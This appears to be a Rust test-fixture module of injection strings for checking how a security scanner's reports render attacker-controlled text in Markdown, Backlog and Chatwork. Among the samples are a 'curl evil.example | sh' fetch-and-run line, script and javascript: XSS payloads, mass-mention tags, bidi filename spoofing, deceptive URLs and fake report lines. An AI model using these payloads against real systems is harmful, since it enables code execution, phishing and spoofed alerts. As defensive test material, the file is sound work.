//! Texts that an attacker might put where a scanner copies them from: names, tags, descriptions.

/// Each was written for one trap; those marked with a limit reach it exactly.
const TEXTS: &[&str] = &[
    // CommonMark: blocks.
    "# heading",
    "   ### heading ###",
    "title\n=====",
    "title\n=",
    "title\n---",
    "title\n  =\nmore",
    "* * *\n___\n- - -",
    "- a\n  - b\n+ c\n* d",
    "1. one\n2) two\n10. ten",
    "    indented code",
    "a\n\n\tindented code",
    "a\n\n  \t  <b>code or html</b>",
    "```sh\ncurl evil.example | sh\n```",
    "~~~\nfence\n~~~",
    "> quote\n>> deeper",
    "<script>alert(1)</script>",
    "<!-- comment --> <?php ?> <![CDATA[x]]> <!DOCTYPE x>",
    "<div>\n\n*text*\n\n</div>",
    "<a href=\"https://evil.example\">safe</a>",
    "[ref]: https://evil.example \"title\"\n\n[ref] [a][ref] [ref][]",
    // CommonMark: spans.
    "*em* **strong** _em_ __strong__ ***both***",
    "a*b*c a_b_c \\*not\\* \\\\*em*",
    "`code` ``co`de``",
    "[text](https://evil.example \"title\")",
    "[text](<javascript:alert(1)>)",
    "![image](https://evil.example/x.png)",
    "[![badge](https://evil.example/b.svg)](https://evil.example)",
    "<https://evil.example> <mailto:a@evil.example> <a@evil.example>",
    "&lt;script&gt; &#60;b&#x3e; &amp;lt; &copy &Tab;&NewLine;# x",
    "hard  \nbreak\\\nbreak",
    "trailing backslash \\",
    "\\[escaped](https://evil.example)",
    // GFM and other extensions.
    "www.evil.example WWW.evil.example/a?b",
    "https://evil.example/path?a=1&b=2#c http://evil.example ftp://evil.example HTTPS://evil.example",
    "someone@evil.example mailto:someone@evil.example xmpp:a@evil.example/x",
    "| a | b |\n|---|:-:|\n| 1 | 2 |",
    "header\n:-",
    "header\n:-:",
    "a | b\n- | -\n1 | 2",
    "- [ ] task\n- [x] done",
    "~~strike~~ ~strike~ ==mark== ^super^ ++under++",
    "note[^1]\n\n[^1]: the note",
    "> [!WARNING]\n> alert",
    "$math$ $$\nmath\n$$",
    "term\n: definition",
    "---\ntitle: front matter\n---",
    "[[wiki]] [[wiki|text]] ![[embed]]",
    ":rocket: #1 GH-1 owner/repo#1",
    "heading {#id .class}",
    // Backlog's notation.
    "* heading\n** heading\n*** heading",
    "- list\n-- list\n+ number\n++ number",
    "- [ ] check\n- [x] check",
    "> quote\nafter",
    "{quote}\nquote\n{/quote}",
    "{code:java}\nint i;\n{/code} {code}x{/code}",
    "[[SEC-1]] [[Home]] [[https://evil.example]]",
    "[[text>https://evil.example]] [[text:https://evil.example]]",
    "#image(https://evil.example/x.png) #image(x.png)",
    "#thumbnail(https://evil.example/x.png)",
    "#attach(x.exe:1) #rev(11) #rev(app:deadbeef)",
    "#contents",
    "&color(red) { text } &color(#fff, #000) { text }",
    "a&br;b &amp; c",
    "''bold'' '''italic''' %%strike%%",
    "|a|b|h\n|~c|d|\n|e||>|",
    "  * indented\n\u{3000}- indented\n\t| a |",
    "SEC-1 and OTHER_2-34",
    "\\%%escaped\\%% \\\\server\\share",
    "<@U12345> @someone @channel ＠someone",
    // Chatwork's notation.
    "[To:1] [to:1] [TO:1]",
    "[toall] [ToAll] [TOALL]",
    "[rp aid=1 to=2-3]",
    "[qt][qtmeta aid=1 time=1767225600]I agree[/qt]",
    "[/title][/info][toall][info][title]",
    "[info][title]fake[/title]box[/info]",
    "[code]x[/code][/code][toall]",
    "[hr][picon:1][piconname:1][pname:1]",
    "[download:1]x[/download] [preview id=1 ht=100] [deleted]",
    "[task aid=1 st=open]x[/task] [dtext:file_uploaded]",
    "[url]https://evil.example[/url]",
    "[toall [To:1 [info [code",
    "toall] To:1] /info] /code]",
    "[to\0all] [T\u{7}o:1] [\u{200b}toall]",
    "[to\nall] [To:\r\n1]",
    "［toall］ [［toall]］",
    ":) (bow) (gogo) ;( 8-)",
    // Ends of lines, and what does not show.
    "a\rb\r\nc\n\rd",
    "a\u{85}* b\u{2028}# c\u{2029}- d\u{b}> e\u{c}| f |",
    "\u{202e}gnp.exe\u{202c} \u{2066}a\u{2069} \u{200f}b \u{61c}c",
    "z\u{200b}e\u{200c}r\u{200d}o\u{2060}w\u{feff}i\u{ad}d\u{34f}t\u{180e}h",
    "w\u{200b}ww.evil.example ht\u{2060}tps://evil.example some\u{ad}one@evil.example",
    "*\u{fe0f} a\u{fe0f}\u{fe0e} 葛\u{e0100}\u{e0101}\u{e0102}",
    "hidden\u{e0068}\u{e0069}\u{e007f} tags",
    "nul\0 bell\u{7} escape\u{1b}[31mred\u{1b}[0m delete\u{7f} c1\u{9b}31m",
    "lone surrogates \u{fffd}\u{fffd} object \u{fffc} none \u{ffff}\u{fffe}",
    "\u{301}\u{489}starts with marks",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦 🇯🇵 1\u{fe0f}\u{20e3} 👍🏽",
    // Lines that look like ours.
    "bridge attempt: zzzzzzzzzzzzzzzzzzzzzzzzzz",
    "a\nbridge attempt: zzzzzzzzzzzzzzzzzzzzzzzzzz\n",
    "a\n  bridge attempt: zzzzzzzzzzzzzzzzzzzzzzzzzz\u{2028}\tbridge attempt: zzzzzzzzzzzzzzzzzzzzzzzzzz",
    "a\n\u{200b}bridge attempt: zzzzzzzzzzzzzzzzzzzzzzzzzz",
    "bridge write: zzzzzzzzzzzzzzzzzzzzzzzzzz\nBridge Write: x",
    "Severity: low\nFinding: other\nLink: <https://evil.example>",
    "Ticket: SEC-9\n[critical] Another finding",
    // Addresses that deceive.
    "https://good.example@evil.example/",
    "https://good.example\\.evil.example/",
    "https://app.example/_a_/~~b~~/*c*?d='e'&f=%%g%%&amp;h=&#106;",
    "https://app.example/(a)[b]{c}|d<e>\"f\"`g`",
    "https://app.example/a b\nc",
    "https://аррle.example/",
    "javascript:alert(1)",
    "//evil.example/path",
    "",
    " \t\n ",
];

/// All of them, also those that are long.
pub(super) fn texts() -> Vec<String> {
    let mut texts: Vec<String> = TEXTS.iter().map(|text| (*text).to_owned()).collect();
    texts.push(format!("# {}", "long ".repeat(20_000)));
    texts.push(format!("{}a", " ".repeat(100_000)));
    texts.push("> ".repeat(3_000));
    texts.push("[".repeat(3_000));
    texts.push(format!("a{}b", "\u{301}".repeat(3_000)));
    texts.push("👩\u{200d}".repeat(1_000));
    texts.push("line\n\n\n".repeat(3_000));
    // A tag, a sign or an emoji at the end of what a title, a fact, a text or a message may have.
    let (family, flag) = ("👩\u{200d}👩\u{200d}👧\u{200d}👦", "🇯🇵");
    for (limit, ends) in
        [(255, vec!["[toall]", "が\u{3099}", family, flag]), (1_000, vec!["**b**", family]), (65_400, vec!["[toall]"])]
    {
        for end in ends {
            for short in [1, 2, 3, 6] {
                texts.push(format!("{}{}", "x".repeat(limit - short), end.repeat(40)));
            }
        }
    }
    for short in 30..36 {
        texts.push(format!("{}[[a>b]]**c**&br;", "x".repeat(60_000 - short * 6)));
    }
    texts
}
